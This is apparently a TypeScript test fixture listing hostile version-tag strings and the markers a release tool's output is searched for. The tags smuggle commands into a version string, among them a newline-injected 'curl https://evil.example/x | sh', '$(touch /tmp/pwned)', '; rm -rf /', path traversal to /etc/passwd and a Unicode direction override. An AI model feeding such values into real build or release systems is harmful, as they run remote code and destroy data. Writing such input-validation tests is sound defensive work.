/** Tags an attacker (or a careless upstream) could publish; none may reach any output. */
export const HOSTILE_TAGS = [
  'version/2026.9.1\nRUN curl https://evil.example/x | sh',
  'version/2026.9.2$(touch /tmp/pwned)',
  'version/../../../etc/passwd',
  `version/2026.9.3-${'a'.repeat(300)}`,
  'version/2026.9.4\u202eexe.1',
  'version/２０２６.9.5',
  'version/2026.9.6;rm -rf /',
  'version/2026.9.7 --push',
];

/** Fragments of the hostile tags to search every output for. */
export const HOSTILE_MARKERS = [
  'evil.example',
  'pwned',
  'passwd',
  'aaaaaaaaaa',
  '\u202e',
  '２０２６',
  'rm -rf',
  '--push',
  '2026.9.',
];
